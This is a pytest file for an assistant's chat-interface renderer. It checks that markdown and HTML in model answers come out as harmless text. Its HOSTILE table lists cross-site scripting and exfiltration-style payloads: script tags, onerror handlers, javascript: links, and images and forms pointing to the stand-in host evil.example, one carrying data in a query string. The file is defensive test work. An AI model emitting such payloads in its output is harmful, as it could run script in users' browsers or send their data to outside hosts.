"""Rendered text of models and documents can carry no script, no remote image, no hidden link."""

import re

import pytest

from assistant.ui.chat_view import Line, render_live, render_question
from assistant.ui.highlight import mark_quote
from assistant.ui.markup import plain, render_answer, render_markdown, tag

HOSTILE = {
    "script": "Hi <script>alert(1)</script> there",
    "image": "![secret](https://evil.example/x.png?data=1)",
    "html image": '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "svg": '<svg onload="alert(1)"><image href="https://evil.example/x"/></svg>',
    "javascript link": "[click](javascript:alert(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "hidden link": "[your bank](https://evil.example/login)",
    "reference link": "[bank][1]\n\n[1]: https://evil.example 'x'",
    "autolink": "<https://evil.example/login>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style": '<p style="background:url(https://evil.example/x)">text</p>',
    "form": '<form action="https://evil.example"><input name="p"></form>',
    "link tag": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "nested": "**[a](https://evil.example)** <b onmouseover=alert(1)>b</b>",
    "table": "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "code": "```html\n<script>alert(1)</script>\n```",
    "template": "{{#each value}}<script>{{this}}</script>{{/each}} ${alert(1)}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "act": '<button data-act="confirm" data-draft="d-12345678">Read more</button>',
}
HARMLESS_TAG = re.compile(
    r"</?(?:p|br|strong|em|del|code|pre|ul|ol|li|blockquote|h[3-6]|table|thead|tbody|tr|th|td|hr|sup|sub|article|h3|div|span|i)\b[^<>]*>"
)


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_becomes_harmless_text(source: str) -> None:
    rendered = render_markdown(source)
    rest = HARMLESS_TAG.sub("", rendered)
    assert "<" not in rest
    assert not re.search(r"<[^>]*(?:src|href|style|on\w+|data-act)\s*=", rendered)


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_streamed_answer_is_as_harmless_as_a_stored_one(source: str) -> None:
    rendered = render_live(source, source, "", (source,))
    assert not re.search(r"<(?:script|img|iframe|svg|a|form|input|button|link|meta|style)\b", rendered)


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_question_is_shown_as_it_was_typed(source: str) -> None:
    rendered = render_question(Line(1, "user", source, "done", {}))
    assert not re.search(r"<(?:script|img|iframe|a|form|input|link|meta|style)\b", rendered)


def test_a_links_address_is_shown_and_leads_nowhere() -> None:
    assert (
        render_markdown("[your bank](https://evil.example/login)") == "<p>your bank (https://evil.example/login)</p>\n"
    )


def test_an_image_is_told_and_not_loaded() -> None:
    assert render_markdown("![a chart](https://evil.example/x.png)") == "<p><em>[image: a chart]</em></p>\n"


def test_characters_that_hide_text_are_removed() -> None:
    assert plain("safe\u202etxt\u200b and \U000e0041done") == "safetxt and done"


def test_citations_with_a_source_become_buttons_and_others_stay_text() -> None:
    rendered = render_answer("So it is [1], and so [7].", {1: 'A "quoted" title'}, 5)
    assert 'data-number="1"' in rendered
    assert "A &quot;quoted&quot; title" in rendered
    assert "[7]" in rendered


def test_attributes_are_escaped() -> None:
    assert tag("p", "", title='"><script>') == '<p title="&quot;&gt;&lt;script&gt;"></p>'


def test_a_quote_is_marked_across_emphasis_and_lines() -> None:
    rendered = render_markdown("1. **Write it down.** Answer & ask\nsix questions.\n2. Go.")
    marked = mark_quote(rendered, "**Write it down.** Answer & ask\nsix questions.")
    assert marked is not None
    assert marked.count("<mark") == 2
    assert '<mark id="passage">Write it down.</mark>' in marked
    assert "Answer &amp; ask" in marked


def test_a_quote_that_is_not_there_is_not_marked() -> None:
    assert mark_quote(render_markdown("Something else."), "Not this.") is None


def test_every_citation_of_every_article_can_be_marked() -> None:
    from assistant.ui.source_view import render_sections
    from knowledge.articles import list_articles
    from knowledge.passages import split_units

    lost = []
    for article in list_articles():
        document = article.to_document()
        for section in document.sections:
            for unit in split_units(section.text)[:6]:
                if not render_sections([section], unit.text, section.heading)[1]:
                    lost.append(f"{article.slug}#{section.heading}: {unit.text[:60]}")
    assert lost == []
